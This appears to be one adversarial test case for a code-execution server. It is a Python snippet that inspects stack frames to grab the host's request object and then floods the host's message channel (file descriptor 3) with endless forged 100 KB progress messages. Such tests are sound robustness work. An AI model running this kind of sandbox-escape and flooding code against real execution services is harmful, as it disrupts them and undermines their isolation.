# id: CH-26
# kind: frames that lie
# where: call
# status: timeout crashed
# slow: yes
def server():
    import sys
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return frame.f_locals["self"], request
        frame = frame.f_back


def send(document, blob=b""):
    import json
    import os
    import struct
    text = json.dumps(document).encode()
    data = struct.pack(">II", len(text), len(blob)) + text + blob
    while data:
        data = data[os.write(3, data):]


def attack():
    _, request = server()
    while True:
        send({"kind": "progress", "id": request["id"], "cell": 0, "text": "x" * 100000})
